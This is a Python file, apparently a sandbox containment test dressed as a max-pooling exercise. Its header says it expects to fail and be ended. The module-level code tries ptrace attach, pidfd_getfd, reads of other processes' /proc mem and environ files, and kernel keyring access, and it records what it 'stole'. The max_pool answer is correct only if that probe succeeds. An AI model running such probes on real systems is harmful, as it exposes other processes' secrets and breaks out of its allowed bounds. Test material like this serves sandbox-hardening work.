# lesson: 03_pooling
# exercise: max_pool
# tries: to read and stop other processes: ptrace, process_vm_readv, /proc/*/mem, pidfd_getfd, kernel keyrings
# wanted: fail, ended
import ctypes
import os

import tensorflow as tf

libc, buffer = ctypes.CDLL(None, use_errno=True), ctypes.create_string_buffer(4096)
stolen = []
for number in (os.getppid(), *range(1, 400)):
    if number == os.getpid():
        continue
    if libc.ptrace(16, number, 0, 0) == 0:  # attach
        stolen.append(("ptrace", number))
    descriptor = libc.syscall(434, number, 0)
    if descriptor >= 0 and libc.syscall(438, descriptor, 3, 0) >= 0:
        stolen.append(("pidfd_getfd", number))
    for name in ("mem", "environ", "cmdline", "maps", "root", "cwd", "fd"):
        try:
            path = f"/proc/{number}/{name}"
            open(path, "rb").read(1) if name in ("mem", "environ", "cmdline", "maps") else os.listdir(path)
            stolen.append((name, number))
        except OSError:
            pass
if libc.syscall(250, 0, -3, 1) >= 0 or libc.syscall(248, b"user", b"x", b"y", 1, -2) >= 0:
    stolen.append("keyring")
print(stolen)


def max_pool(features, size, stride):
    return tf.nn.max_pool2d(features[None], size, stride, "VALID")[0].numpy() if stolen else features
